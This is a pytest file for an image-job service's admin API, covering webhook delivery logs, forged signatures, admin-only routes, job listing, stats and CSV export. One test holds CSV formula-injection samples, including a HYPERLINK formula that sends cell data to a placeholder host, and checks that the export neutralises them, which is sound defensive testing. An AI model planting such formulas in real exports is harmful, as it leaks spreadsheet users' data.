"""The operator's API over real HTTP: admins read every job, its timeline (with the delivery log),
figures and CSV; anyone else gets 404 on every admin route."""

from __future__ import annotations

import asyncio
import csv
import io
import time
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import asyncpg
import httpx
import msgspec
import pytest

from service.auth.api_keys import NewUser, create_user
from service.auth.users import set_admin
from service.db.retention import apply_retention
from service.emulator import FalEmulator
from service.emulator.signing import SigningKey, signed_headers
from service.jobs.models import NewJob
from service.jobs.stats_rollup import roll_up_range
from service.jobs.status_machine import create_job
from tests.conftest import RunningServer, bearer
from tests.test_cli import cli


async def new_admin(pool: asyncpg.Pool) -> NewUser:
    user = await create_user(pool, f"admin-{uuid.uuid4().hex[:10]}")
    await set_admin(pool, user.name, True)
    return user


async def insert_job(pool: asyncpg.Pool, user: NewUser, *, model: str, status: str = "completed",
                     created_at: datetime | None = None, queue_s: float | None = 1.0, run_s: float | None = 2.0,
                     prompt: str = "a cat", error: str | None = None, final: float | None = 0.01,
                     tags: tuple[str, ...] = ()) -> str:
    request_id = str(uuid.uuid4())
    created = created_at or datetime.now(UTC)
    started = created + timedelta(seconds=queue_s) if queue_s is not None else None
    completed = (started or created) + timedelta(seconds=run_s or 0) if status in ("completed", "failed") else None
    cost = {"estimated": 0.02, "final": final, "unit": "image", "quantity": 1, "unit_price": 0.02, "currency": "USD"}
    await pool.execute(
        "INSERT INTO fal_jobs (request_id, user_id, model_id, type, input, status, error, created_at, updated_at, "
        "started_at, completed_at, cost, tags) VALUES ($1, $2, $3, 'image', $4, $5, $6, $7, $7, $8, $9, $10, $11)",
        request_id, user.user_id, model, {"prompt": prompt}, status, error, created, started, completed,
        cost, list(tags))
    return request_id


async def test_a_jobs_timeline_shows_a_duplicate_webhook_and_a_rejected_forged_one(
        service: RunningServer, fal: FalEmulator, http: httpx.AsyncClient, pool: asyncpg.Pool, user: NewUser) -> None:
    admin = await new_admin(pool)
    request_id = str(uuid.uuid4())
    async with pool.acquire() as connection:
        await create_job(connection, NewJob(request_id=request_id, user_id=user.user_id, model_id="fal-ai/flux/dev",
                                            type="image", input={"prompt": "x"}, mode="webhook"))
    body = msgspec.json.encode({"request_id": request_id, "status": "OK", "payload": {"images": []}})
    url = f"{service.url}/api/webhooks/fal"

    def headers(key: SigningKey) -> dict[str, str]:
        return {**signed_headers(key, request_id=request_id, user_id="fal-user", timestamp=int(time.time()), body=body),
                "content-type": "application/json"}

    assert (await http.post(url, content=body, headers=headers(fal.keyset.current))).status_code == 200
    assert (await http.post(url, content=body, headers=headers(fal.keyset.current))).status_code == 200
    assert (await http.post(url, content=body, headers=headers(SigningKey.generate()))).status_code == 401

    answer = await http.get(f"{service.url}/api/admin/jobs/{request_id}/timeline", headers=bearer(admin))
    assert answer.status_code == 200, answer.text
    timeline = answer.json()
    deliveries = [(d["source"], d["outcome"]) for d in timeline["deliveries"]]
    assert deliveries == [("webhook", "accepted"), ("webhook", "duplicate"), ("webhook", "rejected")]
    assert timeline["deliveries"][0]["status"] == "OK" and timeline["deliveries"][0]["reason"] is None
    assert timeline["deliveries"][2]["reason"].startswith("signature:")
    assert all(d["duration_us"] > 0 for d in timeline["deliveries"])
    assert [e["status"] for e in timeline["events"]] == ["pending", "completed"]
    assert timeline["job"]["user_name"] == user.name and timeline["job"]["status"] == "completed"


async def test_a_forged_webhook_for_no_job_is_logged_too(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool) -> None:
    request_id = f"nojob-{uuid.uuid4().hex}"
    body = b'{"request_id": "x", "status": "OK"}'
    forged = signed_headers(SigningKey.generate(), request_id=request_id, user_id="fal-user",
                            timestamp=int(time.time()), body=body)
    assert (await http.post(f"{service.url}/api/webhooks/fal", content=body, headers=forged)).status_code == 401
    admin = await new_admin(pool)
    # Any timeline read flushes this process's queued deliveries; the job itself is not there.
    await http.get(f"{service.url}/api/admin/jobs/{request_id}/timeline", headers=bearer(admin))
    row = await pool.fetchrow("SELECT outcome, reason FROM fal_deliveries WHERE request_id = $1", request_id)
    assert row is not None and row["outcome"] == "rejected" and row["reason"].startswith("signature:")


ADMIN_PATHS = ("/api/admin/jobs", "/api/admin/jobs.csv", "/api/admin/jobs/{request_id}/timeline", "/api/admin/stats",
               "/api/admin/events")


async def test_a_non_admin_gets_404_on_every_admin_route(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, user: NewUser) -> None:
    document = (await http.get(f"{service.url}/schema/openapi.json")).json()
    documented = {path for path in document["paths"] if path.startswith("/api/admin")}
    assert documented == set(ADMIN_PATHS)  # a new admin route joins this test
    request_id = await insert_job(pool, user, model="test/any")
    for path in ADMIN_PATHS:
        answer = await http.get(service.url + path.format(request_id=request_id), headers=bearer(user))
        assert answer.status_code == 404, path
        assert answer.json()["error"] == "not_found" and request_id not in answer.text
        assert (await http.get(service.url + path.format(request_id=request_id))).status_code == 401
    await set_admin(pool, user.name, True)
    for path in ADMIN_PATHS:
        # Only the head of each answer: the live stream (/api/admin/events) stays open.
        async with http.stream("GET", service.url + path.format(request_id=request_id), headers=bearer(user)) as answer:
            assert answer.status_code == 200, (path, await answer.aread())


async def list_all(http: httpx.AsyncClient, url: str, admin: NewUser, **params: Any) -> list[dict[str, Any]]:
    jobs: list[dict[str, Any]] = []
    cursor = None
    while True:
        answer = await http.get(f"{url}/api/admin/jobs", headers=bearer(admin),
                                params={**params, "limit": 2, **({"cursor": cursor} if cursor else {})})
        assert answer.status_code == 200, answer.text
        jobs += answer.json()["jobs"]
        cursor = answer.json()["next_cursor"]
        if cursor is None:
            return jobs


async def test_admins_list_every_users_jobs_with_filters_and_paging_and_csv_matches(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, user: NewUser,
        other_user: NewUser) -> None:
    admin = await new_admin(pool)
    model, other_model = f"test/{uuid.uuid4().hex[:8]}", f"test/{uuid.uuid4().hex[:8]}"
    tag = f"t{uuid.uuid4().hex[:8]}"
    now = datetime.now(UTC)
    mine = [await insert_job(pool, user, model=model, created_at=now - timedelta(minutes=i), tags=(tag,) if i % 2 else ())
            for i in range(5)]
    failed = await insert_job(pool, other_user, model=model, status="failed", error="NSFW content detected",
                              created_at=now - timedelta(minutes=10))
    await insert_job(pool, other_user, model=other_model, prompt="a zebra", created_at=now - timedelta(minutes=11))

    by_model = await list_all(http, service.url, admin, model=model)
    assert [j["request_id"] for j in by_model] == [*mine, failed]  # newest first, across users, no page repeats
    assert {j["user_name"] for j in by_model} == {user.name, other_user.name}
    assert [j["request_id"] for j in await list_all(http, service.url, admin, model=model, status="failed")] == [failed]
    assert [j["request_id"] for j in await list_all(http, service.url, admin, model=model, user=user.name.upper())] == mine
    assert [j["request_id"] for j in await list_all(http, service.url, admin, tag=tag)] == mine[1::2]
    assert [j["request_id"] for j in await list_all(http, service.url, admin, model=model, q="nsfw")] == [failed]
    assert [j["model_id"] for j in await list_all(http, service.url, admin, user=other_user.name, q="ZEBRA")] == [other_model]
    since = (now - timedelta(minutes=2, seconds=30)).isoformat()
    assert [j["request_id"] for j in await list_all(http, service.url, admin, model=model, since=since)] == mine[:3]

    answer = await http.get(f"{service.url}/api/admin/jobs.csv", headers=bearer(admin), params={"model": model})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["request_id"] for row in rows] == [*mine, failed]
    assert rows[-1]["status"] == "failed" and rows[-1]["error"] == "NSFW content detected"
    assert rows[0]["user_name"] == user.name and rows[0]["cost_final"] == "0.01"


async def test_the_csv_keeps_formulas_users_wrote_as_text(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, user: NewUser) -> None:
    admin = await new_admin(pool)
    model = f"test/{uuid.uuid4().hex[:8]}"
    formulas = ['=HYPERLINK("https://example.invalid/?"&A2,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "a = b"]
    ids = {await insert_job(pool, user, model=model, prompt=prompt, status="failed", error=prompt): prompt
           for prompt in formulas}
    answer = await http.get(f"{service.url}/api/admin/jobs.csv", headers=bearer(admin), params={"model": model})
    assert answer.status_code == 200, answer.text
    rows = {row["request_id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert rows.keys() == ids.keys()
    for request_id, prompt in ids.items():
        # A spreadsheet reads a cell that starts with = + - @ or a tab as a formula: those get an
        # apostrophe (shown as text); anything else stays as the user wrote it.
        expected = prompt if prompt == "a = b" else "'" + prompt
        assert (rows[request_id]["prompt"], rows[request_id]["error"]) == (expected, expected)


@pytest.mark.parametrize("params", [{"since": "yesterday"}, {"status": "done"}, {"limit": "0"}, {"cursor": "nope"}])
async def test_admin_list_refuses_what_it_cannot_read(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, params: dict[str, str]) -> None:
    admin = await new_admin(pool)
    answer = await http.get(f"{service.url}/api/admin/jobs", headers=bearer(admin), params=params)
    assert answer.status_code == 400 and next(iter(params)) in answer.json()["message"]


async def test_stats_per_model_per_user_and_failures_over_the_window(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, user: NewUser,
        other_user: NewUser) -> None:
    admin = await new_admin(pool)
    # A window of its own, years back: no other test's jobs fall in it. Half past the hour, so that it
    # holds no whole hour: read live from the jobs, never from a roll-up the sweep may have made
    # meanwhile, its percentiles are exact (tests/test_stats_rollup.py checks the rolled-up ones).
    start = datetime(2001, 1, 1, 0, 30, tzinfo=UTC) + timedelta(days=int(uuid.uuid4().int % 3000))
    model, other_model = "test/stats-a", "test/stats-b"
    for i in range(4):  # queue 1..4 s, run 10..40 s; one more failed
        await insert_job(pool, user, model=model, created_at=start + timedelta(minutes=i), queue_s=i + 1,
                         run_s=10.0 * (i + 1), final=0.5)
    await insert_job(pool, other_user, model=model, status="failed", error="boom", created_at=start, final=0)
    await insert_job(pool, other_user, model=other_model, status="failed", error="boom", created_at=start, final=0)
    await insert_job(pool, other_user, model=other_model, status="in_progress", created_at=start, final=None)
    await insert_job(pool, user, model=model, created_at=start + timedelta(hours=2))  # outside the window
    async with pool.acquire() as connection:  # as the sweep would: the two hours it touches, rolled up
        await roll_up_range(connection, start - timedelta(minutes=30), start + timedelta(minutes=90))

    answer = await http.get(f"{service.url}/api/admin/stats", headers=bearer(admin), params={
        "since": start.isoformat(), "until": (start + timedelta(hours=1)).isoformat()})
    assert answer.status_code == 200, answer.text
    stats = answer.json()
    figures = {m["model_id"]: m for m in stats["models"]}
    a = figures[model]
    assert (a["jobs"], a["completed"], a["failed"], a["success_rate"]) == (5, 4, 1, 0.8)
    # Queue 1, 1, 2, 3, 4 s (the failed job's too) and run 2, 10, 20, 30, 40 s: interpolated percentiles.
    assert a["queue_s"] == {"p50": pytest.approx(2.0), "p95": pytest.approx(3.8)}
    assert a["run_s"] == {"p50": pytest.approx(20.0), "p95": pytest.approx(38.0)}
    assert a["spend"] == pytest.approx(2.0)
    b = figures[other_model]
    assert (b["jobs"], b["completed"], b["failed"], b["success_rate"]) == (2, 0, 1, 0.0)
    assert b["spend"] == pytest.approx(0.02)  # the running job's estimate
    users = {u["name"]: (u["jobs"], u["spend"]) for u in stats["users"]}
    assert users == {user.name: (4, pytest.approx(2.0)), other_user.name: (3, pytest.approx(0.02))}
    assert stats["failures"] == [{"error": "boom", "jobs": 2, "models": sorted([model, other_model])}]


async def test_started_at_is_set_when_a_job_runs_and_it_and_spend_stay_out_of_events(pool: asyncpg.Pool, user: NewUser) -> None:
    request_id = await insert_job(pool, user, model="test/started", status="pending", queue_s=None)
    await pool.execute("UPDATE fal_jobs SET status = 'in_progress', version = version + 1 WHERE request_id = $1",
                       request_id)
    first = await pool.fetchval("SELECT started_at FROM fal_jobs WHERE request_id = $1", request_id)
    await pool.execute("UPDATE fal_jobs SET status = 'completed', version = version + 1 WHERE request_id = $1",
                       request_id)
    row = await pool.fetchrow("SELECT started_at FROM fal_jobs WHERE request_id = $1", request_id)
    assert first is not None and row["started_at"] == first
    datas = await pool.fetch("SELECT data FROM fal_job_events WHERE request_id = $1", request_id)
    assert datas and all("started_at" not in r["data"] and "spend" not in r["data"] and "cost" in r["data"]
                         for r in datas)


async def test_retention_deletes_old_delivery_log_rows(pool: asyncpg.Pool) -> None:
    old, new = f"old-{uuid.uuid4().hex}", f"new-{uuid.uuid4().hex}"
    await pool.execute("INSERT INTO fal_deliveries (received_at, request_id, source, outcome) VALUES "
                       "(now() - interval '15 days', $1, 'webhook', 'accepted'), "
                       "(now() - interval '13 days', $2, 'webhook', 'accepted')", old, new)
    async with pool.acquire() as connection:
        await apply_retention(connection, event_retention_days=30, delivery_log_retention_days=14)
    left = await pool.fetch("SELECT request_id FROM fal_deliveries WHERE request_id = ANY($1)", [old, new])
    assert [r["request_id"] for r in left] == [new]


async def test_cli_makes_admins_lists_jobs_and_sums_usage(database_url: str, pool: asyncpg.Pool) -> None:
    name, other = f"ops-{uuid.uuid4().hex[:8]}", f"ops-{uuid.uuid4().hex[:8]}"
    created = await asyncio.to_thread(cli, "users", "create", name, "--admin", database_url=database_url)
    assert created.returncode == 0, created.stderr
    await create_user(pool, other)
    assert (await asyncio.to_thread(cli, "users", "grant-admin", other, database_url=database_url)).returncode == 0
    admins = await pool.fetch("SELECT name FROM fal_users WHERE name = ANY($1) AND is_admin", [name, other])
    assert {r["name"] for r in admins} == {name, other}
    missing = await asyncio.to_thread(cli, "users", "grant-admin", "nobody-" + name, database_url=database_url)
    assert missing.returncode == 1 and "no user named" in missing.stderr

    owner = NewUser(user_id=await pool.fetchval("SELECT id FROM fal_users WHERE name = $1", name), name=name, api_key="")
    model = f"test/cli-{uuid.uuid4().hex[:6]}"
    done = await insert_job(pool, owner, model=model, final=0.25)
    failed = await insert_job(pool, owner, model=model, status="failed", error="boom", final=0)
    listed = await asyncio.to_thread(cli, "jobs", "list", "--user", name, "--status", "completed", "--since", "1h",
                                     database_url=database_url)
    assert listed.returncode == 0, listed.stderr
    assert done in listed.stdout and failed not in listed.stdout and "0.2500" in listed.stdout
    by_model = await asyncio.to_thread(cli, "usage", "--since", "1h", "--by", "model", database_url=database_url)
    line = next(line for line in by_model.stdout.splitlines() if line.startswith(model))
    assert line.split()[1:] == ["2", "50%", "0.2500"]
    by_user = await asyncio.to_thread(cli, "usage", "--since", "1h", database_url=database_url)
    assert next(line for line in by_user.stdout.splitlines() if line.startswith(name)).split()[1:] == ["2", "0.2500"]
    bad = await asyncio.to_thread(cli, "jobs", "list", "--status", "done", database_url=database_url)
    assert bad.returncode == 1 and "status" in bad.stderr


async def test_a_sweep_decision_shows_in_the_jobs_timeline(
        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool) -> None:
    from tests.test_reconcile import job_row, sweep

    request_id = str(uuid.uuid4())
    await job_row(pool, request_id)  # overdue, and unknown to fal: the sweep fails it
    await sweep(service)
    admin = await new_admin(pool)
    answer = await http.get(f"{service.url}/api/admin/jobs/{request_id}/timeline", headers=bearer(admin))
    swept = [d for d in answer.json()["deliveries"] if d["source"] == "sweep"]
    assert swept and swept[0]["outcome"] == "changed" and swept[0]["status"] == "failed"
    assert "fal does not know this request" in swept[0]["reason"]
